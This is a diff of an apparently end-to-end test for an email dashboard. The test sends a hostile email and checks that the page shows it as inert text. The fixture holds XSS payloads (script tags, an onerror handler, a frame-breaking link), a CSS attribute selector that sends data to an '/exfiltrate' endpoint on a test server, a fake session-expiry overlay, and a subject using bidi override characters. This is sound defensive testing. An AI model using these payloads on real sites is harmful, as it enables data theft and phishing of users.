@@ -19,22 +19,31 @@ input[value^="a"] { background: url(${url}/exfiltrate) }</style></head><body onl
 <a href="${url}/click" target="_top">Click</a></textarea></pre></div><script>top.owned = 1</script>
 <p style="position: fixed; inset: 0; background: red; z-index: 99999">Your session has ended</p>`;
 
-/** 10,000 characters: markup, overrides of direction, joiners, and a word that never ends. */
-const SUBJECT = `<img src=x onerror="owned=1"><script>owned=1</script>\u202E\u2066gnp.exe\u2069 \u200D${"W".repeat(20_000)}`.slice(0, 10_000);
+/** Markup, overrides of direction, joiners, and a word that never ends. */
+const SUBJECT = `<img src=x onerror="owned=1"><script>owned=1</script>\u202E\u2066gnp.exe\u2069 \u200D${"W".repeat(10_000)}`;
+/** No longer one is accepted. */
+const MAX_SUBJECT = 255;
+
 journey("a hostile email is shown as text: no request, no breach, the page unmoved", async ({ visit, cleanup }) => {
   const { origin, apiKey, workspaceId, domain } = sandbox();
   const stranger = startStranger();
   cleanup.add(() => stranger[Symbol.asyncDispose]());
   const headers = { "x-api-key": apiKey, "content-type": "application/json" };
   const from = `"<b>Ana</b>" <a@${domain}>`;
-  const body = { from, to: "rui@example.com", subject: SUBJECT, html: buildHtml(stranger.neighbour) };
-  const answer = await fetch(`${origin}/api/v1/emails`, { method: "POST", headers, body: JSON.stringify(body) });
-  const { data, errors } = (await answer.json()) as { data: { id: string }; errors?: unknown };
-  expect(errors).toBeUndefined();
+  const send = async (subject: string) => {
+    const answer = await fetch(`${origin}/api/v1/emails`, {
+      method: "POST",
+      headers,
+      body: JSON.stringify({ from, to: "rui@example.com", subject, html: buildHtml(stranger.neighbour) }),
+    });
+    return (await answer.json()) as { data?: { id: string }; errors?: { field?: string }[] };
+  };
+  expect((await send(SUBJECT.slice(0, 10_000))).errors).toMatchObject([{ field: "subject" }]);
+  const { data } = await send(SUBJECT.slice(0, MAX_SUBJECT));
   const ana = await visit(origin);
   await signInToSandbox(ana, sandbox());
   const { page } = ana;
-  for (const path of ["", "/emails", `/emails/${data.id}`]) {
+  for (const path of ["", "/emails", `/emails/${data?.id ?? ""}`]) {
     const url = `/dashboard/w/${workspaceId}${path}`;
     await page.setViewportSize({ width: path === "/emails" ? 320 : 1280, height: 800 });
     await page.goto(url);
